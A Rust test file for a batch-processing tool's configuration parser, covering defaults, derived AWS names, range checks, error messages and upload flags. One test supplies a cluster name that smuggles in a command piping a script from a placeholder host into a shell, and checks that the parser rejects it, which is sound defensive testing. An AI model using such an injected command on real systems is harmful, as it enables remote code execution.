use super::*;

fn parse(text: &str) -> Result<Config, ConfigError> {
    Config::parse(text, "dcp.toml", Path::new("/runs/a"))
}

#[test]
fn defaults_and_derived_names() {
    let c = parse("APP_NAME = 'Screen1'\nAWS_BUCKET = 'bucket'\n").unwrap();
    assert_eq!(c.sqs_queue_name, "Screen1Queue");
    assert_eq!(c.sqs_dead_letter_queue, "Screen1DeadMessages");
    assert_eq!(c.log_group_name, "Screen1");
    assert_eq!(c.per_instance_log_group(), "Screen1_perInstance");
    assert_eq!(c.ecs_service_name, "Screen1Service");
    assert_eq!(c.ecs_task_family, "Screen1Task");
    assert_eq!(c.cpu_shares(), 4096);
    assert_eq!(c.job_retries, 3);
    assert_eq!(c.sqs_message_visibility, 60);
    assert_eq!(c.source_bucket, "/runs/a/bucket");
    assert_eq!(c.workspace_bucket, "/runs/a/bucket");
    assert_eq!(c.queue_file, Path::new("/runs/a/dcp-queue.sqlite"));
}

#[test]
fn an_explicit_zero_cpu_shares_is_kept_and_an_absent_one_follows_docker_cores() {
    let zero = parse("AWS_BUCKET = 'b'\nDOCKER_CORES = 2\nCPU_SHARES = 0\n").unwrap();
    assert_eq!(zero.cpu_shares(), 0);
    let absent = parse("AWS_BUCKET = 'b'\nDOCKER_CORES = 2\n").unwrap();
    assert_eq!(absent.cpu_shares(), 2048);
    let json = serde_json::to_string(&zero).unwrap();
    let again = Config::parse(&json, "settings.json", Path::new("/")).unwrap();
    assert_eq!(again.cpu_shares(), 0);
}

#[test]
fn dcp_spellings_are_accepted() {
    let c = parse(
        "BACKEND = 'aws'\nAWS_BUCKET = 'logs'\nSOURCE_BUCKET = 'imgs'\nDOWNLOAD_FILES = 'True'\n\
         ASSIGN_IP = 'false'\nMACHINE_TYPE = 'c5.xlarge'\nPLUGINS_COMMIT = 'False'\n",
    )
    .unwrap();
    assert!(c.download_files);
    assert!(!c.assign_ip);
    assert_eq!(c.machine_type, ["c5.xlarge"]);
    assert_eq!(c.workspace_bucket, "imgs");
    assert_eq!(c.destination_bucket, "logs");
    assert_eq!(c.plugins_commit, "");
}

#[test]
fn resolved_json_reads_back_unchanged() {
    let c = parse("AWS_BUCKET = 'bucket'\nSQS_MESSAGE_VISIBILITY = 300\n").unwrap();
    let json = serde_json::to_string_pretty(&c).unwrap();
    assert_eq!(
        Config::parse(&json, "<stdin>", Path::new("/elsewhere")).unwrap(),
        c
    );
}

#[test]
fn errors_name_the_key_and_line() {
    let err = parse("AWS_BUCKET = 'b'\n\nEBS_VOL_SIZE = 10\n").unwrap_err();
    assert_eq!(
        err.to_string(),
        "dcp.toml:3: EBS_VOL_SIZE: must be at least 22, got 10"
    );
    let err = parse("AWS_BUCKET = 'b'\nAPP_NAM = 'x'\n")
        .unwrap_err()
        .to_string();
    assert!(
        err.starts_with("dcp.toml:2: APP_NAM: unknown field"),
        "{err}"
    );
    let err = parse("AWS_BUCKET = 'b'\nDOWNLOAD_FILES = 'yes'\n")
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("DOWNLOAD_FILES") && err.contains("'yes'"),
        "{err}"
    );
    let err = parse("APP_NAME = 'my app'\nAWS_BUCKET = 'b'\n")
        .unwrap_err()
        .to_string();
    assert!(err.starts_with("dcp.toml:1: APP_NAME:"), "{err}");
    let err = parse("APP_NAME = 'x'\n").unwrap_err().to_string();
    assert!(err.contains("AWS_BUCKET: is required"), "{err}");
    let err = parse("{\"AWS_BUCKET\": \"b\",\n \"JOB_RETRIES\": 0}")
        .unwrap_err()
        .to_string();
    assert_eq!(err, "dcp.toml:2: JOB_RETRIES: must be at least 1, got 0");
}

#[test]
fn names_that_become_aws_resources_follow_the_services_rules() {
    let err = parse("AWS_BUCKET = 'b'\nECS_CLUSTER = \"dcp; curl -s http://x.example/y | sh #\"\n")
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("ECS_CLUSTER") && err.contains("letters, digits"),
        "{err}"
    );
    let err = parse("AWS_BUCKET = 'b'\nLOG_GROUP_NAME = 'a b'\n")
        .unwrap_err()
        .to_string();
    assert!(err.contains("LOG_GROUP_NAME"), "{err}");
    assert!(parse("AWS_BUCKET = 'b'\nLOG_GROUP_NAME = '/dcp/run#1.x'\n").is_ok());
}

#[test]
fn numbers_outside_their_range_are_refused_before_any_conversion() {
    for (key, value) in [
        ("CPU_SHARES", "3000000000"),
        ("MEMORY", "3000000000"),
        ("DOCKER_CORES", "4000000000"),
        ("TASKS_PER_MACHINE", "100000"),
    ] {
        let err = parse(&format!("AWS_BUCKET = 'b'\n{key} = {value}\n"))
            .unwrap_err()
            .to_string();
        assert!(err.contains(key) && err.contains("at most"), "{key}: {err}");
    }
}

#[test]
fn upload_flags_are_read_once_into_options_and_refused_by_flag() {
    let c = parse(
        "AWS_BUCKET = 'b'\nUPLOAD_FLAGS = '--acl bucket-owner-full-control --metadata-directive REPLACE'\n",
    )
    .unwrap();
    assert_eq!(
        c.upload_flags.acl.as_deref(),
        Some("bucket-owner-full-control")
    );
    assert_eq!(
        c.upload_flags.metadata_directive.as_deref(),
        Some("REPLACE")
    );
    let json = serde_json::to_value(&c).unwrap();
    assert_eq!(
        json["UPLOAD_FLAGS"],
        "--acl bucket-owner-full-control --metadata-directive REPLACE"
    );
    // DCP's run.py wrote 'False' for none.
    assert!(
        parse("AWS_BUCKET = 'b'\nUPLOAD_FLAGS = 'False'\n")
            .unwrap()
            .upload_flags
            .is_empty()
    );
    for text in [
        "AWS_BUCKET = 'b'\nUPLOAD_FLAGS = '--acl private --recursive'\n",
        "{\"AWS_BUCKET\": \"b\", \"UPLOAD_FLAGS\": \"--recursive\"}",
    ] {
        let err = parse(text).unwrap_err().to_string();
        assert!(
            err.contains("UPLOAD_FLAGS: '--recursive' is not supported"),
            "{err}"
        );
    }
}

#[test]
fn settings_dcp_does_not_act_on_are_noticed() {
    let keys = |text: &str| -> Vec<&'static str> {
        parse(text)
            .unwrap()
            .notices()
            .iter()
            .map(|n| n.key)
            .collect()
    };
    assert!(
        keys("AWS_BUCKET = 'b'\n").is_empty(),
        "the defaults need no notice"
    );
    assert_eq!(
        keys(
            "AWS_BUCKET = 'b'\nDOWNLOAD_FILES = 'False'\nAUTO_MONITOR = 'True'\n\
             SSH_KEY_NAME = 'k.pem'\nUPLOAD_FLAGS = '--acl private'\nUPDATE_PLUGINS = true\n\
             PLUGINS_COMMIT = 'v1'\nINSTALL_REQUIREMENTS = true\n"
        ),
        [
            "DOWNLOAD_FILES",
            "AUTO_MONITOR",
            "UPDATE_PLUGINS",
            "PLUGINS_COMMIT",
            "INSTALL_REQUIREMENTS",
            "SSH_KEY_NAME",
            "UPLOAD_FLAGS"
        ]
    );
    // On AWS the key name and the upload flags work.
    assert!(
        keys("BACKEND = 'aws'\nAWS_BUCKET = 'b'\nSSH_KEY_NAME = 'k.pem'\nUPLOAD_FLAGS = '--acl private'\n")
            .is_empty()
    );
    assert_eq!(
        keys("AWS_BUCKET = 'b'\nUSE_PLUGINS = true\nUPDATE_PLUGINS = true\n"),
        ["USE_PLUGINS"]
    );
    assert_eq!(
        keys(
            "AWS_BUCKET = 'b'\nUSE_PLUGINS = true\nPLUGINS_DIRECTORY = '/p'\nREQUIREMENTS = 'cellpose'\n"
        ),
        ["REQUIREMENTS"]
    );
    assert!(keys(
        "AWS_BUCKET = 'b'\nUSE_PLUGINS = true\nPLUGINS_DIRECTORY = '/p'\nINSTALL_REQUIREMENTS = true\n\
         REQUIREMENTS = 'cellpose'\nUPDATE_PLUGINS = true\n"
    )
    .is_empty());
}

#[test]
fn the_cellprofiler_runner_is_warm_unless_set_cold_and_its_limits_are_checked() {
    let c = parse("AWS_BUCKET = 'b'\n").unwrap();
    assert_eq!(
        (
            c.cellprofiler_runner,
            c.runner_max_tasks,
            c.runner_max_rss_mb
        ),
        (RunnerMode::Warm, 200, 4096)
    );
    let c = parse("AWS_BUCKET = 'b'\nCELLPROFILER_RUNNER = 'cold'\n").unwrap();
    assert_eq!(c.cellprofiler_runner, RunnerMode::Cold);
    let err = parse("AWS_BUCKET = 'b'\nCELLPROFILER_RUNNER = 'hot'\n")
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("CELLPROFILER_RUNNER") && err.contains("warm"),
        "{err}"
    );
    for (setting, message) in [
        (
            "RUNNER_MAX_TASKS = 0",
            "dcp.toml:2: RUNNER_MAX_TASKS: must be at least 1, got 0",
        ),
        (
            "RUNNER_MAX_RSS_MB = 100",
            "dcp.toml:2: RUNNER_MAX_RSS_MB: must be at least 512, got 100",
        ),
    ] {
        let err = parse(&format!("AWS_BUCKET = 'b'\n{setting}\n")).unwrap_err();
        assert_eq!(err.to_string(), message);
    }
}

#[test]
fn on_demand_base_above_cluster_machines_is_refused() {
    let err = parse("AWS_BUCKET = 'b'\nCLUSTER_MACHINES = 2\nON_DEMAND_BASE = 3\n").unwrap_err();
    assert_eq!(
        err.to_string(),
        "dcp.toml:3: ON_DEMAND_BASE: must be at most CLUSTER_MACHINES (2), got 3: \
         the On-Demand machines are part of the run's machines"
    );
    let c = parse("AWS_BUCKET = 'b'\nCLUSTER_MACHINES = 2\nON_DEMAND_BASE = 2\n").unwrap();
    assert_eq!(c.on_demand_base, 2);
}

#[test]
fn on_demand_base_with_spot_fleet_is_refused() {
    let err = parse("AWS_BUCKET = 'b'\nFLEET_API = 'spot-fleet'\nON_DEMAND_BASE = 1\n")
        .unwrap_err()
        .to_string();
    assert!(
        err.starts_with(
            "dcp.toml:3: ON_DEMAND_BASE: must be 0 with FLEET_API = \"spot-fleet\", got 1"
        ),
        "{err}"
    );
    let c = parse("AWS_BUCKET = 'b'\nFLEET_API = 'spot-fleet'\nON_DEMAND_BASE = 0\n").unwrap();
    assert_eq!(c.fleet_api, FleetApi::SpotFleet);
}
